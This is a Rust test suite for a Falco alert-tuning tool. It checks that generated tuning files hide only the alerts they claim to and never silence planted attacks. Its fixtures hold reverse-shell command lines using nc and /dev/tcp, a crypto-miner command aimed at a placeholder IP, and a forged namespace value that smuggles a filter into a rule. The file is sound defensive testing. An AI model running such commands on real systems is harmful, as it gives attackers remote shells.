//! Tuning files hide what their proof says, by two evaluations that know nothing of portraits: the overlay
//! over the alerts as they were read, and the reading of the YAML in `naive.rs`.

use std::collections::{BTreeMap, BTreeSet};

use analysis::alert::{Alert, Object};
use analysis::insight::Class;
use analysis::mitigation::{Choice, File, Ground, Mitigation, Plan, propose};
use analysis::report::Report;
use proptest::prelude::*;
use rules::RuleFile;
use saphyr::{LoadableYamlNode, Yaml};

use crate::files::{analyse, read, shared};
use crate::hostile::SHARP;
use crate::naive::{Term, naive, selections};
use crate::noisy_day::{self, ATTACK};
use crate::simulated::{self, engine, simulated};

/// What tuning is tried on: the report, and its alerts in the order of their record numbers.
struct Loaded {
    report: Report,
    alerts: Vec<Alert>,
}

impl Loaded {
    fn of(name: &str, bytes: &[u8]) -> Self {
        let alerts = read(&[bytes]).found.into_iter().map(|found| found.alert).collect();
        Self { report: analyse(name, bytes).report, alerts }
    }

    fn select(&self, ids: &[&str], insist: bool) -> Plan {
        let select = ids.iter().map(|id| (*id).to_owned()).collect();
        propose(&self.report.insight, &Choice { select, insist, now: None }, &Ground::default())
    }
}

fn tunings(plan: &Plan) -> impl Iterator<Item = (&Mitigation, &File)> {
    let tuned = plan.mitigations.iter().filter(|mitigation| mitigation.proof.is_some());
    tuned.filter_map(|mitigation| Some((mitigation, mitigation.file.as_ref()?)))
}

/// Every proof is what both evaluations say; the files, by their names.
fn check(loaded: &Loaded, plan: &Plan) {
    for (mitigation, file) in tunings(plan) {
        let proof = mitigation.proof.as_ref().unwrap();
        let stated: BTreeSet<u64> = proof.hides.iter().chain(&proof.also_hides).copied().collect();
        let (hidden, undecided) = simulated(&file.content, &loaded.alerts);
        assert_eq!(proof.hides_total + proof.also_hides_total, hidden.len() as u64, "{}", file.content);
        assert_eq!(proof.undecided_total, undecided, "{}", file.content);
        assert!(stated.is_subset(&hidden), "{}", file.content);
        let rules: BTreeSet<&str> =
            loaded.alerts.iter().map(Alert::rule).filter(|rule| touched(file, rule)).collect();
        assert_eq!(naive(&file.content, &rules, &loaded.alerts), hidden, "{}", file.content);
        let of_rules = loaded.alerts.iter().filter(|alert| rules.contains(alert.rule())).count() as u64;
        let all = proof.hides_total + proof.also_hides_total + proof.keeps_total + proof.undecided_total;
        assert_eq!(all, of_rules, "{}", file.content);
        for comment in file.content.lines().filter(|line| line.starts_with('#')) {
            assert!(comment.is_ascii() && comment.len() <= 80, "{comment}");
        }
    }
}

/// Whether a file changes a rule: the one that it names, or those in which its hook stands.
fn touched(file: &File, rule: &str) -> bool {
    let documents = Yaml::load_from_str(&file.content).unwrap();
    let item = documents[0].as_vec().unwrap()[0].as_mapping().unwrap();
    let (kind, name) = item.iter().next().unwrap();
    match (kind.as_str().unwrap(), name.as_str().unwrap()) {
        ("macro", name) => {
            rules::hooks().any(|hook| hook.name == name && hook.rules().any(|one| one == rule))
        }
        (_, name) => name == rule,
    }
}

/// Real captures and the engine's own alerts, where they lie beside the project.
fn captures() -> Vec<(String, Vec<u8>)> {
    let mut found = Vec::new();
    let mut folders: Vec<_> = ["corpus", "conformance/alerts"].into_iter().filter_map(shared).collect();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_none_or(|extension| extension != "md" && extension != "scap") {
                found.push((
                    path.file_name().unwrap().to_str().unwrap().to_owned(),
                    std::fs::read(path).unwrap(),
                ));
            }
        }
    }
    found.sort();
    found
}

/// All rules that Falco ships, and a rule for every one that a file extends beyond them.
fn base(own: &BTreeMap<String, Option<String>>) -> Option<rules::Base> {
    const SHIPPED: [&str; 8] = [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
        "aws_cloudtrail_rules.yaml",
        "gcp_auditlog_rules.yaml",
        "github.yaml",
        "k8s_audit_rules.yaml",
        "okta_rules.yaml",
    ];
    let folder = shared("rules")?;
    let mut base = rules::Base::new(&engine());
    for name in SHIPPED {
        base.add(&RuleFile { name, bytes: &std::fs::read(folder.join(name)).unwrap() });
    }
    let mut stubs = String::new();
    for (rule, source) in own {
        let source = source.as_deref().unwrap_or("syscall");
        let rule = serde_json::to_string(rule).unwrap();
        stubs.extend([
            format!("- rule: {rule}\n  desc: d\n  source: {source}\n  condition: evt.num > 0\n"),
            "  output: x\n  priority: INFO\n  warn_evttypes: false\n".to_owned(),
        ]);
    }
    if !own.is_empty() {
        base.add(&RuleFile { name: "own.yaml", bytes: stubs.as_bytes() });
    }
    Some(base)
}

#[test]
fn files_of_every_finding_load_and_their_proofs_hold() {
    let mut files: BTreeSet<String> = BTreeSet::new();
    let mut own: BTreeMap<String, Option<String>> = BTreeMap::new();
    for (name, bytes) in captures() {
        let loaded = Loaded::of(&name, &bytes);
        let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
        let mut plans = vec![
            propose(&loaded.report.insight, &Choice::default(), &Ground::default()),
            loaded.select(&ids, true),
        ];
        plans.extend(ids.iter().take(1).map(|id| loaded.select(&[id], true)));
        for plan in plans {
            check(&loaded, &plan);
            let current = plan.mitigations.iter().filter_map(|mitigation| mitigation.file.as_ref());
            for file in current.filter(|file| file.name.starts_with("falco/")) {
                let items: Vec<&str> = file.content.lines().filter(|line| !line.starts_with('#')).collect();
                files.insert(items.join("\n") + "\n");
            }
        }
        for group in &loaded.report.insight.groups {
            if rules::shipped_source(&group.rule).is_none() {
                own.insert(group.rule.clone(), group.source.clone().filter(|source| source != "internal"));
            }
        }
    }
    let Some(base) = base(&own) else { return };
    assert!(files.len() > 300, "{}", files.len());
    for batch in batches(&files) {
        let mut base = base.clone();
        let before = base.files();
        base.add(&RuleFile { name: "all.yaml", bytes: batch.as_bytes() });
        let loaded = base.finish();
        let last = &loaded.files[before];
        assert!(last.successful && last.warnings.is_empty(), "{:?} {:?}", last.errors, last.warnings);
    }
    println!("{} files load", files.len());
}

/// Files that can be loaded together, as no two of them add the same exception: the rules are compiled once
/// for each batch.
fn batches(files: &BTreeSet<String>) -> Vec<String> {
    let mut batches: Vec<(BTreeSet<&str>, String)> = Vec::new();
    for file in files {
        let names = || file.lines().filter_map(|line| line.strip_prefix("    - name: "));
        let at = batches.iter().position(|(taken, _)| names().all(|name| !taken.contains(name)));
        let at = at.unwrap_or(batches.len());
        if at == batches.len() {
            batches.push(Default::default());
        }
        batches[at].0.extend(names());
        batches[at].1.push_str(file);
    }
    batches.into_iter().map(|(_, text)| text).collect()
}

/// Attacks beside the one of the day, where the noise is: in its image and namespace, by a program that was
/// put there, and by the name of a noisy program elsewhere. Rule, executable, image, command line.
const PLANTED: [[&str; 4]; 3] = [
    [
        "Netcat Remote Code Execution in Container",
        "/bin/nc",
        "registry.example/team/probe",
        "nc -e /bin/sh 203.0.113.9 4444",
    ],
    [
        "Drop and execute new binary in container",
        "/tmp/.x/probe",
        "registry.example/team/probe",
        "probe -o stratum+tcp://203.0.113.9:3333",
    ],
    [
        "Platform rule 00",
        "/dev/shm/probe",
        "registry.example/team/probe",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ],
];

fn planted() -> impl Iterator<Item = String> {
    PLANTED.into_iter().map(|[rule, executable, image, command]| {
        serde_json::json!({
            "rule": rule, "priority": "Warning", "source": "syscall", "output": format!("{rule} happened"),
            "time": "2026-03-04T13:00:00.000000000Z", "hostname": "node-3",
            "output_fields": {
                "proc.exepath": executable, "proc.name": executable.rsplit('/').next(), "proc.cmdline": command,
                "container.id": "badc0ffee123", "container.image.repository": image, "k8s.ns.name": "platform",
                "k8s.pod.name": "probe-6c9d7f4b8-zzzzz", "user.name": "root", "proc.pname": "sh",
            },
        })
        .to_string()
    })
}

#[test]
fn a_noisy_day_is_nearly_silent_and_its_attacks_are_not() {
    let lines: Vec<String> = noisy_day::lines(3000).chain(planted()).collect();
    let loaded = Loaded::of("day.jsonl", lines.join("\n").as_bytes());
    let rules: BTreeSet<&str> = loaded.alerts.iter().map(Alert::rule).collect();
    assert!(rules.len() >= 30, "{}", rules.len());
    let plan = propose(&loaded.report.insight, &Choice::default(), &Ground::default());
    check(&loaded, &plan);
    let hidden: BTreeSet<u64> =
        tunings(&plan).flat_map(|(_, file)| simulated(&file.content, &loaded.alerts).0).collect();
    println!("{} of {} alerts by {} rules are hidden", hidden.len(), loaded.alerts.len(), rules.len());
    assert!(hidden.len() * 100 >= loaded.alerts.len() * 95, "{} of {}", hidden.len(), loaded.alerts.len());
    let is_attack = |alert: &Alert| {
        let executable = alert.field_text("proc.exepath");
        ATTACK.contains(&alert.rule())
            || PLANTED.iter().any(|[rule, program, ..]| alert.rule() == *rule && executable == Some(*program))
    };
    let attacks: Vec<u64> =
        (1..).zip(&loaded.alerts).filter(|(_, alert)| is_attack(alert)).map(|(record, _)| record).collect();
    assert_eq!(attacks.len(), ATTACK.len() + PLANTED.len());
    let lost: Vec<&u64> = attacks.iter().filter(|record| hidden.contains(record)).collect();
    assert!(lost.is_empty(), "{lost:?}");
}

#[test]
fn an_attack_is_hidden_only_on_demand_and_the_file_says_so() {
    let line = r#"{"rule":"Payment key read","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","container.id":"host","fd.name":"/run/pay.key","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}"#;
    let loaded = Loaded::of("input", line.as_bytes());
    let [group] = loaded.report.insight.groups.as_slice() else { panic!("one finding") };
    assert_eq!(group.verdict.class, Class::LikelyMalicious);
    assert_eq!(tunings(&loaded.report.plan).count(), 0);
    assert_eq!(tunings(&loaded.select(&[&group.id], false)).count(), 0);
    let plan = loaded.select(&[&group.id], true);
    let (_, file) = tunings(&plan).next().unwrap();
    assert!(
        file.content.contains("# WARNING: hides 1 alert that is judged likely malicious."),
        "{}",
        file.content
    );
    check(&loaded, &plan);
}

fn offered(plan: &Plan) -> Vec<&str> {
    plan.mitigations.iter().filter_map(|mitigation| Some(mitigation.file.as_ref()?.name.as_str())).collect()
}

#[test]
fn a_loud_rule_that_says_too_little_is_to_say_more_first() {
    let line = r#"{"rule":"Read sensitive file untrusted","priority":"Notice","source":"syscall","output_fields":{"proc.name":"agent","fd.name":"/etc/shadow"}}"#;
    let loaded = Loaded::of("input", [line; 25].join("\n").as_bytes());
    let output = "falco/output_read_sensitive_file_untrusted.yaml";
    let routing = "helm/falcosidekick-values.yaml";
    let last = "falco-last-resort/read_sensitive_file_untrusted.yaml";
    assert_eq!(offered(&loaded.report.plan), [output, routing, last]);
    let file = |name: &str| loaded.report.plan.files().into_iter().find(|file| file.name == name).unwrap();
    for name in [output, last] {
        assert_eq!(simulated(&file(name).content, &loaded.alerts), (BTreeSet::new(), 0));
    }
    assert!(file(routing).content.ends_with("minimumpriority: warning\n"));
}

#[test]
fn an_attack_in_a_pod_is_answered_within_its_namespace() {
    let attack = |namespace: &str| {
        format!(
            r#"{{"rule":"Drop and execute new binary in container","priority":"Critical","source":"syscall","output_fields":{{"proc.exepath":"/tmp/.x/nc","container.id":"0123456789ab","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444","k8s.pod.name":"shop-1","k8s.ns.name":"{namespace}"}}}}"#
        )
    };
    let answered = Loaded::of("input", attack("shop").as_bytes());
    let files = answered.report.plan.files();
    let talon = files.iter().find(|file| file.name == "falco-talon/isolate.yaml").unwrap();
    let document = Yaml::load_from_str(&talon.content).unwrap().remove(0);
    let matched = &document.as_vec().unwrap()[1]["match"];
    assert_eq!(matched["rules"][0].as_str(), Some("Drop and execute new binary in container"));
    assert_eq!(matched["output_fields"][0].as_str(), Some("k8s.ns.name=shop"));
    let forged = Loaded::of("input", attack("shop, k8s.ns.name!=x").as_bytes());
    assert!(offered(&forged.report.plan).iter().all(|name| !name.starts_with("falco-talon/")));
}

#[test]
fn a_real_log_of_one_loud_rule_that_names_no_program_cannot_be_tuned() {
    let Some(corpus) = shared("corpus") else { return };
    let log = corpus.join("raw_pretty_mixed/dilarauns__VulnerPlus_falco.log");
    let loaded = Loaded::of("falco.log", &std::fs::read(log).unwrap());
    assert_eq!(tunings(&loaded.report.plan).count(), 0);
    let outputs = offered(&loaded.report.plan).into_iter().filter(|name| name.contains("/output_"));
    assert_eq!(outputs.count(), 4);
}

/// Values for the fields that tuning names: ordinary ones, and some that mean something to somebody.
fn value() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => proptest::sample::select(vec!["/usr/bin/agent", "/opt/app/run", "/var/lib/app/a", "/var/lib/app/b"])
            .prop_map(str::to_owned),
        2 => proptest::sample::select(SHARP.to_vec()).prop_map(|sharp| format!("/opt/{sharp}")),
        1 => "/[a-z]{1,3}/\\PC{0,6}",
        1 => any::<String>(),
    ]
}

/// An alert of one of two rules: the one with a hook, the other without.
fn alert(has_hook: bool, values: &[String; 4], volatile: u32) -> String {
    let [executable, image, namespace, target] = values;
    let rule =
        if has_hook { "Read sensitive file untrusted" } else { "Directory traversal monitored file read" };
    serde_json::json!({
        "rule": rule, "priority": "Notice", "source": "syscall", "output": format!("o {volatile}"),
        "output_fields": {
            "proc.exepath": executable, "container.image.repository": image, "k8s.ns.name": namespace,
            "fd.name": target, "container.id": format!("{:012x}", 0xabc0_0000_0000_u64 + u64::from(volatile)),
            "proc.pid": volatile, "k8s.pod.name": format!("app-6c9d7f4b8-x{}kq", volatile % 10),
        },
    })
    .to_string()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(120))]

    #[test]
    fn a_file_hides_the_same_thing_again_and_nothing_else(
        alerts in proptest::collection::vec((any::<bool>(), proptest::array::uniform4(value())), 1..6),
        volatile in any::<u32>(),
    ) {
        let lines = |volatile: u32| -> Vec<String> {
            alerts.iter().map(|(has_hook, values)| alert(*has_hook, values, volatile)).collect()
        };
        let loaded = Loaded::of("input", lines(7).join("\n").as_bytes());
        let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
        let plan = loaded.select(&ids, true);
        check(&loaded, &plan);
        simulated::check(&loaded.report, &loaded.alerts);
        let again = read(&[lines(volatile).join("\n").as_bytes()]).found;
        let again: Vec<Alert> = again.into_iter().map(|found| found.alert).collect();
        for (_, file) in tunings(&plan) {
            let hidden = simulated(&file.content, &loaded.alerts).0;
            prop_assert_eq!(simulated(&file.content, &again).0, hidden.clone(), "{}", file.content);
            let rows = selections(&file.content);
            let names = |row: &[Term], field: &str| row.iter().any(|term| term.0 == field);
            let fields = rows[0].1.iter().map(|term| &term.0);
            for field in fields.filter(|field| rows.iter().all(|(_, row)| names(row, field))) {
                let changed: Vec<Alert> = lines(7).iter().map(|line| changed(line, field)).collect();
                prop_assert!(simulated(&file.content, &changed).0.is_empty(), "{} {}", field, file.content);
            }
        }
    }
}

/// The alert with another value in a field.
fn changed(line: &str, field: &str) -> Alert {
    let mut alert: serde_json::Value = serde_json::from_str(line).unwrap();
    alert["output_fields"][field] = "elsewhere".into();
    let object = Object::parse(alert.to_string().as_bytes()).unwrap();
    Alert::from_object(object).unwrap()
}
